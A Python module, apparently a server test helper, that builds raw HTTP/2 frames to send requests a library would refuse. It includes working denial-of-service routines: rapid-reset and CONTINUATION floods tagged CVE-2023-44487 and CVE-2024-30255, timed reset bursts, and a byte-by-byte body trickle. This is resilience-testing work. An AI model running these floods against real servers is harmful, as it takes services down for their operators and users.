"""HTTP/2 as raw bytes, for requests that a library would refuse to send: one request, or a flood of frames that cost
the sender almost nothing."""

import asyncio
import contextlib
import struct

_STATUSES = {0x88: 200, 0x8C: 400, 0x8D: 404}  # of HPACK's static table
_DATA, _SETTINGS, _HEADERS, _ENDED, _GOAWAY, _CONTINUATION = 0, 4, 1, 3, 7, 9
_END_STREAM, _END_HEADERS = 1, 4
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
MOST = 200_000  # frames of a flood, if the server does not stop it


async def ask_by_http2(address, port, method="GET", path="/", headers=(), authority="orders", tls=None):
    """The status of the response; 0 if there was no response. `tls`: the client's SSL context, if it uses TLS."""
    reader, writer = await asyncio.open_connection(address, port, ssl=tls)
    block = _block(method, authority, path, headers)
    writer.write(_PREFACE + _frame(_SETTINGS, 0, 0) + _frame(_HEADERS, _END_STREAM | _END_HEADERS, 1, block))
    try:
        async with asyncio.timeout(30):
            return await _response(reader)
    finally:
        writer.close()


async def _response(reader):
    """The status of the first response; 0 if there is none."""
    try:
        while True:
            head = await reader.readexactly(9)
            kind, payload = head[3], await reader.readexactly(int.from_bytes(head[:3], "big"))
            if kind == _HEADERS:
                return _status(payload)
            if kind in (_ENDED, _GOAWAY):
                return 0
    except (asyncio.IncompleteReadError, ConnectionError):
        return 0


async def trickle_by_http2(address, port, path="/", authority="orders", pause=0.1):
    """Send a body one byte at a time until the response begins; its status. 0 if there is none."""
    reader, writer = await asyncio.open_connection(address, port)
    writer.write(
        _PREFACE + _frame(_SETTINGS, 0, 0) + _frame(_HEADERS, _END_HEADERS, 1, _block("POST", authority, path))
    )
    response = asyncio.ensure_future(_response(reader))
    try:
        async with asyncio.timeout(60):
            while not response.done():
                writer.write(_frame(_DATA, 0, 1, b"x"))
                await asyncio.wait({response}, timeout=pause)
        return await response
    finally:
        response.cancel()
        writer.close()


async def settings_by_http2(address, port):
    """The SETTINGS that a server sends, by number."""
    reader, writer = await asyncio.open_connection(address, port)
    writer.write(_PREFACE + _frame(_SETTINGS, 0, 0))
    async with asyncio.timeout(30):
        head = await reader.readexactly(9)
        payload = await reader.readexactly(int.from_bytes(head[:3], "big"))
    writer.close()
    assert head[3] == _SETTINGS
    return dict(struct.iter_unpack(">HI", payload))


async def flood_by_http2(connection, kind, path="/", authority="orders"):
    """How many frames of a kind the server accepted before it closed the connection; at most MOST."""
    reader, writer = await asyncio.open_connection(sock=connection)
    ended = asyncio.ensure_future(_to_the_end(reader))
    request = _block("GET", authority, path)
    writer.write(_PREFACE + _frame(_SETTINGS, 0, 0))
    if kind == "continuations":
        writer.write(_frame(_HEADERS, _END_STREAM, 1, request))
    sent = 0
    try:
        while sent < MOST and not ended.done():
            match kind:
                case "resets":  # CVE-2023-44487
                    stream = 2 * sent + 1
                    writer.write(_frame(_HEADERS, _END_STREAM | _END_HEADERS, stream, request))
                    writer.write(_frame(_ENDED, 0, stream, struct.pack(">I", 8)))
                case "continuations":  # CVE-2024-30255
                    writer.write(_frame(_CONTINUATION, 0, 1, b"\x10" + _literal(f"x-{sent}") + _literal("v" * 100)))
            await writer.drain()
            sent += 1
    except ConnectionError:
        pass
    finally:
        ended.cancel()
        writer.close()
    return sent


async def resets_by_http2(connection, until, path="/", authority="orders", burst=50, pause=0.02, rounds=None):
    """Send bursts of requests and reset them, in turn at once and after a pause, until the server closes the
    connection or the event `until` is set, at most so many rounds of two bursts. Returns whether the server closed the
    connection before."""
    reader, writer = await asyncio.open_connection(sock=connection)
    ended = asyncio.ensure_future(_to_the_end(reader))
    request, first = _block("GET", authority, path), 1
    writer.write(_PREFACE + _frame(_SETTINGS, 0, 0))
    try:
        while not until.is_set() and not ended.done():
            if rounds == 0:
                await asyncio.sleep(pause)
                continue
            rounds = rounds and rounds - 1
            for wait in (0, pause):
                streams = range(first, first + 2 * burst, 2)
                first = streams.stop
                writer.writelines(_frame(_HEADERS, _END_STREAM | _END_HEADERS, each, request) for each in streams)
                await asyncio.sleep(wait)
                writer.writelines(_frame(_ENDED, 0, each, struct.pack(">I", 8)) for each in streams)
                await writer.drain()
        return ended.done()
    except ConnectionError:
        return True
    finally:
        ended.cancel()
        writer.close()


async def _to_the_end(reader):
    with contextlib.suppress(ConnectionError):
        while await reader.read(65536):
            pass


def _block(method, authority, path, headers=()):
    pseudo = ((":method", method), (":scheme", "http"), (":authority", authority), (":path", path))
    return b"".join(b"\x10" + _literal(name) + _literal(value) for name, value in (*pseudo, *headers))


def _literal(text):
    encoded = text.encode("latin-1")
    assert len(encoded) < 127
    return bytes([len(encoded)]) + encoded


def _frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _status(block):
    while block[0] & 0xE0 == 0x20:  # another size of the dynamic table
        block = block[1:]
    if block[0] in _STATUSES:
        return _STATUSES[block[0]]
    length = block[1] & 0x7F
    if block[1] & 0x80:
        return _digits(block[2 : 2 + length])
    return int(block[2 : 2 + length])


def _digits(coded):
    """Decode digits in HPACK's Huffman code: 0, 1 and 2 have five bits, 3 to 9 six."""
    bits = "".join(f"{byte:08b}" for byte in coded)
    found = ""
    while len(found) < 3:
        if int(bits[:5], 2) <= 2:
            found, bits = found + str(int(bits[:5], 2)), bits[5:]
        else:
            found, bits = found + str(int(bits[:6], 2) - 0b011001 + 3), bits[6:]
    return int(found)
